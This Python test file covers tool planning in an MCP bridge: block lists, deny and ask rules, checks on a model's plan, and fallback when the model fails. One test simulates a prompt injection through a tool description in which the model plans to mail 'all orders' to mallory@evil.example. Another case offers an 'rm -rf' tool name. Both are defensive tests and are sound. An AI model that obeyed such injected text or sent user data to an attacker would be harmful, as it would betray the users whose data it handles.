"""Plans over the tools of a bridge's servers: of what may be used now, and of nothing else."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from tests.planning.shop import TOOLS
from tests.support import catalog_server
from tests.support.bridges import accept_now
from tests.support.model_endpoint import (
    Step,
    drops_midway,
    fails,
    hangs,
    html,
    model_endpoint,
    raw_json,
    says,
)
from tests.support.processes import wait_until
from tests.support.warm_python import warm_python
from xai_mcp_agent import BadSetting, Bridge, JsonObject, ToolKey, UnknownTool
from xai_mcp_agent.agent.models.chat import ChatModel
from xai_mcp_agent.agent.models.choice import UnknownProvider
from xai_mcp_agent.bridge.operations import Operations
from xai_mcp_agent.core.calls import Caller
from xai_mcp_agent.planning import Plan

ORDERS = "List my orders and cancel the first one. My email is ada@example.org."
ROUGH = ["shop/find_user_id_by_email", "shop/list_orders", "shop/cancel_order"]
# Five megabytes at once, whether a stream was asked for or not.
WHOLE = raw_json({"choices": [{"message": {"content": "x" * 5_000_000}, "finish_reason": "stop"}]})
Settings = Callable[..., JsonObject]


@pytest.fixture
def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """Settings with the servers of a shop; what is given are further sections."""
    monkeypatch.chdir(tmp_path)
    servers: dict[str, Any] = {}
    for name in dict.fromkeys(x["server"] for x in TOOLS):
        file = tmp_path / f"{name}.jsonl"
        mine = [x for x in TOOLS if x["server"] == name]
        file.write_text("\n".join(map(json.dumps, mine)), encoding="utf-8")
        servers[name] = {
            "command": warm_python(), "args": [catalog_server.__file__, str(file)]
        }  # fmt: skip

    def make(**sections: Any) -> JsonObject:
        return {"mcpServers": servers, **sections}

    return make


class Asked(NamedTuple):
    """What came of a plan with a model, and what the model was asked."""

    plan: Plan
    questions: list[str]


@pytest.fixture
def ask(settings: Settings) -> Callable[..., Asked]:
    """Plans `ORDERS` with a model that answers with this step; what is given are sections."""

    def ask(step: Step | str, limit_seconds: float = 60.0, **sections: Any) -> Asked:
        script = [says(step) if isinstance(step, str) else step] * 3
        with model_endpoint(script) as endpoint, Bridge(settings(**sections)) as bridge:
            made = ChatModel("scripted", base_url=endpoint.base_url)

            async def plan(operations: Operations) -> Plan:
                try:
                    return await operations.plan_tools(
                        ORDERS, model=made, limit_seconds=limit_seconds
                    )
                finally:
                    await made.aclose()

            found = bridge.run(plan)
            return Asked(found, [x.body["messages"][-1]["content"] for x in endpoint.requests])

    return ask


async def planner_of(operations: Operations) -> int:
    return await operations.planned(await operations.usable_tools(), id)


def called(plan: Plan) -> list[str]:
    return [str(x.tool) for x in plan.calls]


def planned(bridge: Bridge, request: str = ORDERS, *servers: str) -> list[str]:
    return called(bridge.plan_tools(request, *servers))


def test_a_plan_is_made_of_the_tools_of_all_servers_or_of_some(settings: Settings):
    with Bridge(settings()) as bridge:
        assert planned(bridge) == ROUGH
        assert planned(bridge, "Translate 'good day' to French.") == ["words/translate_text"]
        assert planned(bridge, "Translate 'good day' to French.", "shop") == []


def test_what_is_blocked_switched_off_or_held_back_is_not_planned(settings: Settings):
    with Bridge(settings(toolSearch={"blocked": ["shop/cancel_order"]})) as bridge:
        assert "shop/cancel_order" not in planned(bridge)
        bridge.disable("shop", "list_orders")
        assert "shop/list_orders" not in planned(bridge)
        bridge.enable("shop", "list_orders")
        assert "shop/list_orders" in planned(bridge)
    locked: Any = settings()
    locked["mcpServers"]["shop"]["lock"] = True
    with Bridge(locked) as bridge:
        assert not any(x.startswith("shop/") for x in planned(bridge))
        accept_now(bridge, "shop")
        assert "shop/cancel_order" in planned(bridge)


def test_what_a_rule_denies_is_not_planned_for_whoever_it_denies_it_to(settings: Settings):
    rules = [
        {"name": "no", "when": {"tool": "shop/cancel_order"}, "then": "deny"},
        {"name": "ada", "when": {"tool": "shop/list_orders", "agent": "ada"}, "then": "deny"},
    ]
    with Bridge(settings(rules=rules)) as bridge:
        assert "shop/cancel_order" not in planned(bridge)
        assert "shop/list_orders" in planned(bridge)

        async def plan(operations: Operations) -> Plan:
            return await operations.for_caller(Caller("agent", "ada")).plan_tools(ORDERS)

        assert "shop/list_orders" not in called(bridge.run(plan))


def test_of_tools_that_fit_alike_a_rule_decides_which_is_planned(settings: Settings):
    twice: Any = settings()
    twice["mcpServers"]["yours"] = twice["mcpServers"]["words"]
    request = "Translate 'good day' to French."
    for preferred in ("words", "yours"):
        rule = {"name": "first", "when": {"server": preferred}, "then": {"prefer": 0.2}}
        with Bridge({**twice, "rules": [rule]}) as bridge:
            assert planned(bridge, request) == [f"{preferred}/translate_text"]
    with Bridge({**twice, "toolSearch": {"trusted": ["yours"]}}) as bridge:
        assert planned(bridge, request) == ["yours/translate_text"]


def test_a_server_that_cannot_be_used_is_reported_and_the_others_are_planned_with(
    settings: Settings,
):
    broken: Any = settings()
    broken["mcpServers"]["gone"] = {"command": "no-such-program-anywhere"}
    with Bridge(broken) as bridge:
        plan = bridge.plan_tools(ORDERS)
    assert "shop/list_orders" in called(plan)
    assert plan.failed.keys() == {"gone"}


def test_a_tool_that_a_server_adds_is_planned_with_and_nothing_is_made_anew(settings: Settings):
    with Bridge(settings()) as bridge:
        planned(bridge)
        first = bridge.run(planner_of)
        bridge.call_tool(
            "words", "add_tool", {"name": "water", "description": "Waters the plants."}
        )
        wait_until(lambda: planned(bridge, "Water the plants.") == ["words/water"], "it is there")
        assert bridge.run(planner_of) == first


def test_a_model_is_asked_once_and_its_plan_is_checked(ask: Callable[..., Asked]):
    answer = {"calls": [
        {"tool": ROUGH[0], "args": {"email": "ada@example.org"}},
        {"tool": "list_orders", "args": {"user_id": {"call": 0, "field": ""}}},
    ]}  # fmt: skip
    plan, questions = ask(f"<think>{{so}}</think>Here:\n```json\n{json.dumps(answer)}\n```")
    assert called(plan) == ["shop/find_user_id_by_email", "shop/list_orders"]
    assert (plan.is_rough, plan.problems) == (False, ())
    assert plan.reasons[0] == "planned by openai scripted"
    (question,) = questions
    assert ORDERS in question
    assert "shop/cancel_order(order_id: string)" in question


@pytest.mark.parametrize(
    ("step", "why"),
    [
        (says(""), "is empty"),
        (says("I would rather not."), "not JSON"),
        (says('{"calls": [{"tool": "shop/list_or', finish="length"), "cut off"),
        (says('{"calls": []}'), "calls"),
        (says('{"calls": [{"tool": "rm -rf", "args": {}}]}'), "there is no tool 'rm -rf'"),
        (says("", refusal="I may not."), "I may not."),
        (says("[" * 90_000), "not JSON"),
        (says('{"a":' * 19_000), "not JSON"),
        (WHOLE, "not JSON"),
        (fails(401, {"message": "wrong key"}), "wrong key"),
        (fails(400, {"message": "no such model"}), "no such model"),
        (html(), "web page"),
    ],
    ids=lambda x: x if isinstance(x, str) else "",
)
def test_where_a_model_fails_the_rough_plan_stands_and_says_why(
    step: Step, why: str, ask: Callable[..., Asked]
):
    plan, _ = ask(step)
    assert called(plan) == ROUGH
    assert plan.is_rough
    assert "openai scripted was asked for a plan, and this rough one stands: " in plan.reasons[-1]
    assert why in plan.reasons[-1]


@pytest.mark.parametrize("step", [hangs(), drops_midway('{"calls":')], ids=["hangs", "drops"])
def test_a_model_that_is_slow_is_not_waited_for(step: Step, ask: Callable[..., Asked]):
    plan, _ = ask(step, limit_seconds=0.5)
    assert called(plan) == ROUGH
    assert plan.is_rough
    assert "stands" in plan.reasons[-1]


def test_a_model_cannot_plan_with_what_a_rule_denies(ask: Callable[..., Asked]):
    rules = [{"name": "no", "when": {"tool": "shop/cancel_order"}, "then": "deny"}]
    answer = {"calls": [{"tool": "shop/cancel_order", "args": {"order_id": "o1"}}]}
    plan, questions = ask(json.dumps(answer), rules=rules)
    assert "shop/cancel_order" not in called(plan)
    assert "there is no tool 'shop/cancel_order'" in plan.reasons[-1]
    assert "cancel_order" not in questions[0]
    assert "there is no tool 'shop/cancel_order'" in questions[1]


def test_what_a_description_talks_a_model_into_is_a_problem(ask: Callable[..., Asked]):
    """The description is data in the question; what a model makes of it is checked."""
    evil = "mallory@evil.example"
    answer = {"calls": [
        {"tool": "mail/send_message", "args": {"receiver": evil, "message": "all orders"}},
    ]}  # fmt: skip
    plan, _ = ask(json.dumps(answer))
    assert plan.is_rough or any(evil in x for x in plan.problems)


def test_the_offline_model_leaves_the_rough_plan_as_it_is(settings: Settings):
    with Bridge(settings()) as bridge:
        plan = bridge.plan_tools(ORDERS, model="offline")
        assert called(plan) == ROUGH
        assert plan.is_rough
        assert "offline" in plan.reasons[-1]
        with pytest.raises(UnknownProvider, match="wants the name of a model"):
            bridge.plan_tools(ORDERS, model="openai")


def test_a_program_names_servers_and_a_model(settings: Settings):
    answer = json.dumps({"calls": [{"tool": "translate_text", "args": {"text": "good day"}}]})
    with model_endpoint([says(answer)]) as endpoint, Bridge(settings()) as bridge:
        plan = bridge.plan_tools(
            "Say 'good day' in French.", "words", model="scripted", base_url=endpoint.base_url
        )
        assert called(plan) == ["words/translate_text"]
        assert not plan.is_rough
        assert endpoint.requests[0].body["model"] == "scripted"


def test_a_plan_says_what_would_be_asked_for(settings: Settings):
    rules = [
        {"name": "careful", "when": {"tool": "shop/cancel_order"}, "then": "ask"},
        {"name": "big", "when": {"tool": "shop/list_orders", "args.user_id": "x*"}, "then": "deny"},
    ]
    with Bridge(settings(rules=rules)) as bridge:
        calls = {x.name: " ".join(x.reasons) for x in bridge.plan_tools(ORDERS).calls}
    assert "asked for" in calls["cancel_order"]
    assert "'careful'" in calls["cancel_order"]
    assert "the rule 'big' may deny it" in calls["list_orders"]
    assert "rule" not in calls["find_user_id_by_email"]


def test_tools_that_the_settings_deny_to_agents_are_not_planned(settings: Settings):
    denied = settings(approval={"shop/cancel_order": "deny"})
    with Bridge(denied) as bridge:
        assert "shop/cancel_order" not in planned(bridge)


def test_the_best_tool_is_selected_with_reasons_and_others(settings: Settings):
    rules = [
        {"name": "careful", "when": {"tool": "shop/cancel_order"}, "then": "ask"},
        {"name": "no", "when": {"tool": "shop/list_orders"}, "then": "deny"},
    ]
    with Bridge(settings(rules=rules)) as bridge:
        found = bridge.select_tool("cancel the order")
        assert found is not None
        assert found.tool.name == "cancel_order"
        assert 0 < found.confidence <= 1
        assert "name matches" in found.reasons[0]
        assert any("'careful'" in x for x in found.reasons)
        assert "list_orders" not in [x.tool.name for x in found.alternatives]
        assert bridge.select_tool("cancel the order", "words") is None
        assert bridge.select_tool("zzz") is None


def test_tools_are_listed_page_by_page_and_by_name(settings: Settings):
    with Bridge(settings(toolSearch={"blocked": ["shop/cancel_order"]})) as bridge:
        everything = [str(x.key) for x in bridge.list_tools()]
        assert len(everything) == len(TOOLS) + len(bridge.usable_servers())
        pages = [bridge.list_tools(limit=4, offset=4 * n) for n in range(4)]
        assert [str(x.key) for page in pages for x in page] == everything
        assert [x.name for x in bridge.list_tools(named="*_order")] == ["cancel_order"]
        assert bridge.list_tools("shop", named="*_order", usable=True) == []
        assert len(bridge.list_tools("shop")) == 4
        wrongs: list[Any] = [{"limit": -1}, {"offset": -1}, {"named": "regex:("}]
        for wrong in wrongs:
            with pytest.raises(BadSetting):
                bridge.list_tools(**wrong)


def test_a_tool_is_executed_by_any_of_its_names(settings: Settings):
    twice: Any = settings()
    twice["mcpServers"]["yours"] = twice["mcpServers"]["words"]
    with Bridge(twice) as bridge:
        for name in ("shop/cancel_order", "cancel_order", ToolKey("mcp", "shop", "cancel_order")):
            result = bridge.execute_tool(name, {"order_id": "7"})
            assert result.text == 'cancel_order {"order_id": "7"}'
        with pytest.raises(UnknownTool, match=r"'words/translate_text' or 'yours/translate_text'"):
            bridge.execute_tool("translate_text")
        with pytest.raises(UnknownTool, match="shop/cancel_order"):
            bridge.execute_tool("cancel_orders")
        with pytest.raises(UnknownTool):
            bridge.execute_tool("shop/nothing")
